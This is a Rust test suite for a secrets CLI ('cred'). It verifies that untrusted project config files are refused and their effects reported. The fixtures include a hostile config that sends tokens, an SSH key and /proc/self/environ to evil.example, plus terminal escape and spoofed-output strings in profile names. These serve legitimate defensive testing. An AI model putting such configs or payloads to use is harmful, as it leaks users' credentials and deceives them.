//! A project's file is an attacker's until the user trusts it.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::Stdio;

use crate::world::World;

/// A value that no untrusted file may get hold of.
const CANARY: &str = "canary-4f1c2d";

/// Every command that uses the configuration, with arguments that would do something.
const COMMANDS: [&[&str]; 20] = [
    &["set", "a"],
    &["get", "a"],
    &["list"],
    &["list", "--deleted"],
    &["rm", "--yes", "a"],
    &["recover", "a"],
    &["purge", "--yes", "a"],
    &["rotate", "a"],
    &["import", ".env"],
    &["export"],
    &["run", "--scope", "org:acme", "--", "touch", "ran"],
    &["run", "--env", "A=a", "--", "touch", "ran"],
    &["validate"],
    &["rekey"],
    &["key", "add", "next"],
    &["key", "list"],
    &["key", "retire", "k"],
    &["migrate", "--from", "p", "--to", "q"],
    &["diff", "p", "q"],
    &["doctor"],
];

/// A project that would send everything that it can name to a server.
fn malicious(world: &World, address: &str) -> String {
    world.write("home/id_rsa", CANARY);
    world.write("project/.env", "A=1\n");
    let home = world.path("home");
    let text = format!(
        "profile = \"p\"\n\n[profiles.p]\nbackend = \"vault\"\naddress = \"{address}\"\nallow_http = true\n\
         auth_method = {{ token = {{ token = {{ env = \"GITHUB_TOKEN\" }} }} }}\n\
         ca_cert = \"~/ca.pem\"\n\
         [profiles.q]\nbackend = \"vault\"\naddress = \"{address}\"\nallow_http = true\n\
         auth_method = {{ token = {{ token = {{ file = \"{0}/id_rsa\" }} }} }}\n\
         [profiles.r]\nbackend = \"local\"\nbase_path = \"{0}/store-of-attacker\"\n\
         [profiles.s]\nbackend = \"k8s\"\nkubeconfig_path = \"kube.yaml\"\n\
         [rings.main]\nactive = \"k\"\nkeys.k = {{ file = \"/proc/self/environ\" }}\n\
         [rings.other]\nactive = \"k\"\nkeys.k = {{ passphrase = {{ env = \"AWS_SECRET_ACCESS_KEY\" }} }}\n",
        home.display()
    );
    fs::write(world.path("project/cred.toml"), &text).unwrap();
    text
}

#[test]
fn an_untrusted_file_is_refused_by_every_command_and_what_it_would_do_is_shown() {
    let mut world = World::empty();
    world.set("GITHUB_TOKEN", CANARY);
    malicious(&world, "https://user:pw@evil.example:8200/path?query");
    for args in COMMANDS {
        let answer = world.run_with(args, CANARY).ends(3).says("is not trusted").says("cred trust");
        for effect in [
            "profile p: backend vault, at https://evil.example:8200",
            "profile r: backend local",
            "reads the variables AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN",
            "/proc/self/environ",
            "~/ca.pem",
            "id_rsa",
            "kube.yaml",
            "may run the `exec` plugin of a kubeconfig",
        ] {
            assert!(answer.err.contains(effect), "{args:?}: {effect} is not in: {}", answer.err);
        }
        assert!(!answer.err.contains(CANARY) && !answer.err.contains("query"), "{}", answer.err);
    }
    assert!(!world.path("home/store-of-attacker").exists() && !world.path("project/ran").exists());
    let json = world.run(&["list", "--json"]).ends(3).error();
    assert!(json["effects"].as_array().unwrap().len() > 5, "{json}");
    let offline = world.run(&["doctor", "--offline"]);
    assert!(offline.out.contains("not trusted") && offline.out.contains("evil.example"), "{}", offline.out);
}

/// Nothing that an untrusted file names is opened, asked or started.
#[test]
#[ignore = "needs strace: cargo xtask ci"]
fn an_untrusted_file_opens_no_file_no_socket_and_no_program() {
    let mut world = World::empty();
    world.set("GITHUB_TOKEN", CANARY);
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    malicious(&world, &format!("http://{}", server.local_addr().unwrap()));
    for args in COMMANDS {
        let trace = world.path("tmp/trace");
        let mut strace = std::process::Command::new("strace");
        strace.args(["-f", "-qq", "-s", "4096", "-e", "trace=%file,%network,execve", "-o"]).arg(&trace);
        strace.arg(env!("CARGO_BIN_EXE_cred")).args(args);
        strace.env_clear().envs(world.variables()).current_dir(world.path("project"));
        let status = strace.stdin(Stdio::null()).stderr(Stdio::null()).status().unwrap();
        assert_eq!(status.code(), Some(3), "{args:?}");
        let trace = fs::read_to_string(trace).unwrap();
        let expected = ["project/cred.toml", "trusted.json"];
        for line in trace.lines().filter(|line| !line.contains("execve(")) {
            assert!(!line.contains("connect(") && !line.contains("AF_INET"), "{args:?}: {line}");
            let names_a_file = ["id_rsa", "environ", "store-of", "ca.pem", "kube.yaml", ".env", "/keys"];
            let is_named = names_a_file.iter().any(|name| line.contains(name));
            assert!(!is_named || expected.iter().any(|name| line.contains(name)), "{args:?}: {line}");
        }
        assert_eq!(trace.matches("execve(").count(), 1, "{args:?}: {trace}");
        assert!(trace.contains("cred.toml"), "the trace shows nothing");
    }
    assert!(server.accept().is_err(), "it connected");
}

#[test]
fn a_trusted_file_counts_until_it_changes() {
    let mut world = World::new();
    world.store("a", "1");
    let record = world.path("home/.config/cred/trusted.json");
    assert_eq!(fs::metadata(&record).unwrap().permissions().mode() & 0o777, 0o600);
    let list = world.run(&["trust", "--list"]).good().out;
    assert!(list.contains("project/cred.toml"), "{list}");

    let text = world.read("project/cred.toml");
    fs::write(world.path("project/cred.toml"), text.clone() + "# changed\n").unwrap();
    world.run(&["get", "a"]).ends(3).says("has changed since then");
    world.run(&["trust"]).good().says("Trusted");
    assert_eq!(world.value("a"), "1");
    world.run(&["trust", "--revoke"]).good();
    world.run(&["trust", "--revoke"]).ends(4);
    world.run(&["get", "a"]).ends(3);
    world.run(&["trust", "--sha256", &"0".repeat(64)]).ends(3);
    world.run(&["get", "a"]).ends(3);

    let hash = world.run(&["trust", "--json"]).good().json()["sha256"].as_str().unwrap().to_owned();
    world.run(&["trust", "--revoke"]).good();
    world.set("CRED_TRUST", &hash);
    assert_eq!(world.value("a"), "1");
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["get", "a"]).ends(3);
    // The same contents elsewhere are another file.
    world.run(&["trust"]).good();
    fs::create_dir(world.path("project/copy")).unwrap();
    fs::copy(world.path("project/cred.toml"), world.path("project/copy/cred.toml")).unwrap();
    let mut copy = world.command(&["get", "a"]);
    assert_eq!(copy.current_dir(world.path("project/copy")).output().unwrap().status.code(), Some(3));
}

#[test]
fn commands_that_change_the_file_keep_it_trusted() {
    let world = World::new();
    world.store("a", "1");
    let first = world.key_id();
    world.run(&["key", "add", "next"]).good();
    world.run(&["rekey"]).good();
    world.run(&["key", "retire", &first]).good();
    assert_eq!(world.value("a"), "1");
    // A file that was not trusted does not become it so.
    let text = world.read("project/cred.toml") + "# of an attacker\n";
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["key", "add", "third"]).ends(3);
    world.run(&["get", "a"]).ends(3);
}

/// What was meant for the user's profile went under a key of the project.
#[test]
fn a_project_cannot_redefine_a_profile_or_a_ring_of_the_user() {
    let world = World::empty();
    world.run(&["init", "--user", "--name", "production"]).good();
    for table in [
        "[profiles.production]\nbackend = \"local\"\nbase_path = \"/x\"\n",
        "[rings.user]\nactive = \"k\"\nkeys.k = { env = \"K\" }\n",
    ] {
        world.write("project/cred.toml", table);
        for args in [&["set", "a", "-p", "production"][..], &["list"], &["key", "list"]] {
            let answer = world.run_with(args, "1").ends(3);
            for name in ["project/cred.toml", ".config/cred/cred.toml", "cannot redefine"] {
                assert!(answer.err.contains(name), "{}", answer.err);
            }
        }
    }
    fs::remove_file(world.path("project/cred.toml")).unwrap();
    // Nor does a profile of the user take a ring from the project.
    let user = world.read("home/.config/cred/cred.toml").replace("ring = \"user\"", "ring = \"theirs\"");
    world.write("home/.config/cred/cred.toml", &user);
    world.write("project/cred.toml", "[rings.theirs]\nactive = \"k\"\nkeys.k = { env = \"K\" }\n");
    world.run_with(&["set", "a", "-p", "production"], "1").ends(3).says("there is no key ring `theirs`");
}

#[test]
fn a_project_beside_the_users_file_gets_names_of_its_own() {
    let world = World::empty();
    world.run(&["init", "--user", "--name", "dev"]).good();
    world.run(&["init", "--name", "dev"]).ends(2).says("has a profile `dev`");
    world.run(&["init"]).good();
    world.run_with(&["set", "a"], "1").good().says("in dev-2 of ").says("project/cred.toml");
}

#[test]
fn a_file_that_is_not_what_it_seems_is_refused_and_never_passed_over() {
    let world = World::empty();
    world.run(&["init", "--user"]).good();
    let path = world.path("project/cred.toml");
    symlink("/not/mounted/cred.toml", &path).unwrap();
    world.run_with(&["set", "a"], "1").ends(3).says("is a link");
    world.run(&["trust"]).ends(3);
    fs::remove_file(&path).unwrap();
    fs::create_dir(&path).unwrap();
    world.run_with(&["set", "a"], "1").ends(3).says("is not a regular file");
    fs::remove_dir(&path).unwrap();

    world.run(&["init"]).good();
    world.run_with(&["set", "a"], "1").good();
    let mode = |place: &str, mode| {
        fs::set_permissions(world.path(place), fs::Permissions::from_mode(mode)).unwrap();
    };
    mode("project/cred.toml", 0o664);
    world.run(&["get", "a"]).ends(3).says("chmod go-w");
    mode("project/cred.toml", 0o644);
    mode("project", 0o775);
    world.run(&["get", "a"]).ends(3).says("in a folder that other users can write");
    // A folder of all users is not searched at all, as /tmp.
    mode("project", 0o1777);
    world.run(&["get", "a"]).ends(4).says("profile `user`");
    mode("project", 0o755);
    assert_eq!(world.value("a"), "1");
}

#[test]
fn secrets_that_the_platform_hands_out_are_usable_by_a_setting_of_the_user() {
    let world = World::new();
    world.store("a", "1");
    let key = world.key_file();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o444)).unwrap();
    world.run(&["get", "a"]).ends(8).says("shared_secrets = true").says("mode 0444");
    let text = world.read("project/cred.toml");
    let setting = "[files]\nshared_secrets = true\n";
    world.write("project/cred.toml", &format!("{text}{setting}"));
    world.run(&["get", "a"]).ends(3).says("is only allowed in the user's file");
    world.write("project/cred.toml", &text);
    world.write("home/.config/cred/cred.toml", setting);
    assert_eq!(world.value("a"), "1");
    world.write("project/named.toml", &format!("{text}{setting}"));
    fs::remove_file(world.path("home/.config/cred/cred.toml")).unwrap();
    assert_eq!(world.run(&["--config", "named.toml", "get", "a"]).good().out, "1");
    fs::set_permissions(&key, fs::Permissions::from_mode(0o666)).unwrap();
    world.run(&["--config", "named.toml", "get", "a"]).ends(8).says("can be written by other users");
}

#[test]
fn a_key_comes_through_a_pipe() {
    let world = World::new();
    world.store("a", "1");
    let key = fs::read(world.key_file()).unwrap();
    let text = world.read("project/cred.toml").replace(&world.key_file(), "/dev/stdin");
    world.write("project/cred.toml", &text);
    let mut get = world.command(&["get", "a"]).stdin(Stdio::piped()).spawn().unwrap();
    get.stdin.take().unwrap().write_all(&key).unwrap();
    assert_eq!(crate::world::Answer::of(get).good().out, "1");
}

/// A screen that a file can draw on says what the file wants.
#[test]
fn nothing_of_a_file_draws_on_the_screen() {
    let world = World::empty();
    let names = ["a\\u001b[2Jb", "\\u202Eevil", "a\\nok  keys: all is well", "a b", "", "é", &"x".repeat(65)];
    for name in names {
        let text = format!("[profiles.\"{name}\"]\nbackend = \"local\"\nbase_path = \"/x\"\n");
        fs::write(world.path("project/cred.toml"), text).unwrap();
        for args in [&["trust"][..], &["doctor", "--offline"], &["doctor"], &["list"]] {
            let answer = world.run(args);
            let shown = answer.out.clone() + &answer.err;
            let draws = |letter: char| letter != '\n' && letter.is_control() || letter == '\u{202e}';
            assert!(!shown.chars().any(draws) && !shown.contains("\nok  keys"), "{args:?}: {shown:?}");
            assert!(answer.code != 0, "{name}: {args:?}: {shown}");
        }
    }
    fs::write(
        world.path("project/cred.toml"),
        "[profiles.p]\nbackend = \"vault\"\naddress = \"https://a\\u001b]0;x\\u0007\\n\\u202E/\"\n\
         ca_cert = \"/x\\r\\nok  keys: all is well\"\n[rings.r]\nactive = \"k\"\nkeys.k = { env = \"\\u009b31m\" }\n",
    )
    .unwrap();
    for args in [&["list"][..], &["doctor", "--offline"], &["trust"]] {
        let answer = world.run(args);
        let shown = answer.out.clone() + &answer.err;
        assert!(!shown.chars().any(|letter| letter != '\n' && letter.is_control()), "{shown:?}");
        assert!(!shown.contains("\nok  keys") && shown.contains("\\u{1b}"), "{shown:?}");
    }
}

/// Its relative paths would count from the clone, with the trust of the file that it leads to.
#[test]
fn a_link_to_a_trusted_file_is_not_trusted() {
    let world = World::new();
    world.store("a", "1");
    fs::create_dir(world.path("clone")).unwrap();
    symlink("../project/cred.toml", world.path("clone/cred.toml")).unwrap();
    let mut get = world.command(&["get", "a"]);
    let answer = get.current_dir(world.path("clone")).spawn().unwrap();
    crate::world::Answer::of(answer).ends(3).says("is a link");
}

/// `git pull` changes them as well as the file itself.
#[test]
fn a_file_in_the_project_that_the_trusted_file_names_is_trusted_with_it() {
    let world = World::new();
    world.store("a", "1");
    let key = fs::read_to_string(world.key_file()).unwrap();
    let text = world.read("project/cred.toml").replace(&world.key_file(), "main.key");
    fs::write(world.path("project/main.key"), &key).unwrap();
    fs::set_permissions(world.path("project/main.key"), fs::Permissions::from_mode(0o600)).unwrap();
    world.write("project/cred.toml", &text);
    assert_eq!(world.value("a"), "1");
    let other = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n";
    fs::write(world.path("project/main.key"), other).unwrap();
    world.run_with(&["set", "a"], "2").ends(3).says("has changed since then");
    // Other users may read this hash, so it must not help to guess a secret.
    let hash = |world: &World| world.run(&["trust", "--json"]).good().json()["sha256"].clone();
    let before = hash(&world);
    fs::write(world.path("project/main.key"), &key).unwrap();
    assert_eq!(hash(&world), before);
    assert_eq!(world.value("a"), "1");
}

/// A kubeconfig names certificates, tokens and programs, and every path can be written in many
/// ways.
#[test]
fn a_file_that_the_project_reaches_by_any_way_is_trusted_with_it() {
    let mut world = World::empty();
    fs::create_dir_all(world.path("home/.config")).unwrap();
    symlink("../project", world.path("home/link")).unwrap();
    let kubeconfig = "users: [{name: u, user: {exec: {command: ./helper.sh, args: [\"sub/x\"]}}}]\n";
    fs::create_dir(world.path("project/sub")).unwrap();
    for (name, text) in [("kube.yaml", kubeconfig), ("helper.sh", "1"), ("sub/x", "1"), ("ca.pem", "1")] {
        fs::write(world.path("project").join(name), text).unwrap();
    }
    // The program need not have the backend: its file is looked at before.
    let is_trusted = |world: &World| !world.run(&["list"]).err.contains("so it was not used");
    for path in
        ["kube.yaml", "./kube.yaml", "../project/kube.yaml", "/proc/self/cwd/kube.yaml", "~/link/kube.yaml"]
    {
        let text = format!(
            "[profiles.k]\nbackend = \"k8s\"\nkubeconfig_path = \"{path}\"\n\
             [profiles.v]\nbackend = \"vault\"\nca_cert = \"ca.pem\"\n"
        );
        for changed in ["kube.yaml", "helper.sh", "sub/x", "ca.pem"] {
            let place = format!("project/{changed}");
            let before = world.read(&place);
            world.write("project/cred.toml", &text);
            assert!(is_trusted(&world), "{path}");
            fs::write(world.path(&place), before.clone() + "\n").unwrap();
            assert!(!is_trusted(&world), "{path}: {changed}");
            fs::write(world.path(&place), before).unwrap();
            assert!(is_trusted(&world), "{path}: {changed}");
        }
    }
    // A name could hide behind an escape.
    world.write("project/kube.yaml", "users: [{user: {exec: {command: \"\\x2e/helper.sh\"}}}]\n");
    world.run(&["trust"]).ends(3).says("backslash");
    world.write("project/kube.yaml", kubeconfig);

    // The same project elsewhere has the same hash, which a pipeline can pin.
    let hash = world.run(&["trust", "--json"]).good().json()["sha256"].as_str().unwrap().to_owned();
    world.run(&["trust", "--revoke"]).good();
    fs::rename(world.path("project"), world.path("moved")).unwrap();
    symlink("moved", world.path("project")).unwrap();
    world.set("CRED_TRUST", &format!("{},{hash}", hash.split(':').next().unwrap()));
    assert!(is_trusted(&world));
    world.set("CRED_TRUST", hash.split(':').next().unwrap());
    assert!(!is_trusted(&world), "the hash of the text alone is not enough");
}

#[test]
fn a_variable_does_not_lead_into_the_project() {
    let mut world = World::new();
    let store = world.path("home/.local/share/cred/project").to_string_lossy().into_owned();
    let text = world.read("project/cred.toml").replace(&format!("\"{store}\""), "{ env = \"STORE\" }");
    world.write("project/cred.toml", &text);
    world.set("STORE", &store);
    world.store("a", "1");
    world.set("STORE", "xterm");
    world.run(&["list"]).ends(3).says("must be absolute");
}

/// What changes while a prompt waits was not looked at.
#[test]
fn an_edit_trusts_nothing_that_changed_meanwhile() {
    let world = World::new();
    fs::write(world.path("project/ca.pem"), "1").unwrap();
    let more = "[profiles.v]\nbackend = \"vault\"\nca_cert = \"ca.pem\"\n";
    world.write("project/cred.toml", &(world.read("project/cred.toml") + more));
    let mut terminal = crate::terminal::Terminal::start(&world, &["key", "add", "pw", "--passphrase"]);
    terminal.expect("Passphrase of pw: ");
    fs::write(world.path("project/ca.pem"), "of an attacker").unwrap();
    terminal.type_keys("correct horse\r");
    terminal.expect("Once more: ");
    terminal.type_keys("correct horse\r");
    assert!(terminal.ends(3).contains("changed meanwhile"));
    world.run(&["list"]).ends(3);
}

#[test]
fn what_a_project_takes_of_the_user_and_all_that_decides_where_data_goes_is_shown() {
    let world = World::empty();
    world.run(&["init", "--user"]).good();
    fs::write(
        world.path("project/cred.toml"),
        "profile = \"user\"\n[profiles.a]\nbackend = \"vault\"\naddress = \"http:evil.example\"\nring = \"user\"\n\
         namespace = \"other\"\nallow_http = true\n[profiles.b]\nbackend = \"aws\"\nregion = \"x.evil.example#\"\n\
         kms_key_id = \"arn:theirs\"\nring = \"own\"\ndefault_tags = { team = \"theirs\" }\n\
         [rings.own]\nactive = \"k\"\nkeys.k = { passphrase = \"prompt\" }\n",
    )
    .unwrap();
    let answer = world.run(&["list"]).ends(3);
    for effect in [
        "chooses YOUR profile user",
        "profile a: sealed with YOUR ring user",
        "at the unusual address `http:evil.example`",
        "namespace other",
        "allow_http true",
        "region x.evil.example#",
        "kms_key_id arn:theirs",
        "default_tags team=theirs",
        "the `credential_process` of an AWS profile",
        "asks you for a passphrase",
    ] {
        assert!(answer.err.contains(effect), "{effect} is not in: {}", answer.err);
    }
}

#[test]
fn a_link_on_the_way_to_a_file_does_not_keep_it_trusted() {
    let world = World::new();
    let text = world.read("project/cred.toml");
    symlink("project", world.path("link")).unwrap();
    fs::remove_file(world.path("project/cred.toml")).unwrap();
    world.run(&["trust", "--revoke", "../link/cred.toml"]).good();
    fs::write(world.path("project/cred.toml"), text).unwrap();
    world.run(&["list"]).ends(3);
}

#[test]
fn the_users_file_is_no_project_by_whatever_way_its_folder_is_entered() {
    let world = World::empty();
    fs::create_dir_all(world.path("home/dot/cred")).unwrap();
    fs::create_dir(world.path("home/.config")).unwrap();
    symlink("../dot/cred", world.path("home/.config/cred")).unwrap();
    world.run(&["init", "--user"]).good();
    let mut list = world.command(&["list"]);
    let answer = list.current_dir(world.path("home/dot/cred")).spawn().unwrap();
    crate::world::Answer::of(answer).good();
}

#[test]
fn a_record_that_cannot_be_used_ends_only_what_needs_it() {
    let world = World::new();
    world.store("a", "1");
    world.write("home/.config/cred/trusted.json", "{");
    world.run(&["get", "a"]).ends(3).says("trusted.json");
    assert_eq!(world.run(&["--config", "cred.toml", "get", "a"]).good().out, "1");
}

#[test]
fn init_refuses_a_folder_in_which_its_file_would_not_count() {
    let world = World::empty();
    for mode in [0o777, 0o1777] {
        fs::set_permissions(world.path("project"), fs::Permissions::from_mode(mode)).unwrap();
        world.run(&["init"]).ends(3).says("could not be used");
        assert!(!world.path("project/cred.toml").exists());
    }
}

#[test]
fn without_a_home_the_hash_is_given_for_the_environment() {
    let world = World::empty();
    let mut init = world.command(&["init", "--key-file", "key", "--store", "store", "--json"]);
    let answer = crate::world::Answer::of(init.env_remove("HOME").spawn().unwrap()).good();
    let hash = answer.err.split("CRED_TRUST=").nth(1).unwrap().trim_end_matches(['"', '}', '\n']).to_owned();
    let mut list = world.command(&["list"]);
    list.env_remove("HOME").env("CRED_TRUST", hash);
    crate::world::Answer::of(list.spawn().unwrap()).good();
}
